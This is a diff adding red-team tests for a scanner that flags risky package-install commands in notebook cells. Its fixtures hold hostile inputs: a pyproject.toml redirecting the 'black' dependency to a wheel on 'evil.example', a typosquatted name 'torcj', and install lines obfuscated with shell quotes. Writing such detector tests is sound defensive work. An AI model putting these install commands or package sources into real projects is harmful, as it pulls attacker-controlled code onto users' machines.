@@ -184,3 +184,38 @@ describe('red team 6 F15: the cell prefilter sees words after shell quote remova
     expect(rules('!co"n"da install -c evil torcj').length).toBeGreaterThan(0);
   });
 });
+
+describe('red7 R7-8: local folders by absolute path or file: URL', () => {
+  const sources =
+    '[project]\nname = "demo"\nversion = "0.1"\ndependencies = ["black"]\n\n' +
+    '[tool.uv.sources]\nblack = { url = "https://evil.example/black-99.0-py3-none-any.whl" }\n';
+
+  it('reads the folder as a project, as for ./proj', () => {
+    const proj = path.join(dir, 'proj');
+    fs.mkdirSync(proj);
+    fs.writeFileSync(path.join(proj, 'pyproject.toml'), sources);
+    fs.writeFileSync(path.join(dir, 'c.txt'), `demo @ file://${proj}\n`);
+    for (const cell of [
+      `!uv pip install 'demo @ file://${proj}'`,
+      `!uv pip install 'file://${proj}'`,
+      `!uv pip install 'file://localhost${proj}'`,
+      `!uv tool install 'demo @ file://${proj}'`,
+      '!uv pip install -c c.txt numpy'
+    ]) {
+      expect(rules(cell)).toEqual(['install-direct-reference']);
+    }
+  });
+
+  it('decides name @ file:///folder as the name and its project, not a download', () => {
+    const clean = path.join(dir, 'clean');
+    fs.mkdirSync(clean);
+    fs.writeFileSync(
+      path.join(clean, 'pyproject.toml'),
+      '[project]\nname = "clean"\nversion = "0.1"\n'
+    );
+    expect(rules(`!pip install 'clean @ file://${clean}'`)).toEqual([]);
+    expect(rules(`!pip install 'torcj @ file://${clean}'`)).toEqual([
+      'install-imitation-name'
+    ]);
+  });
+});
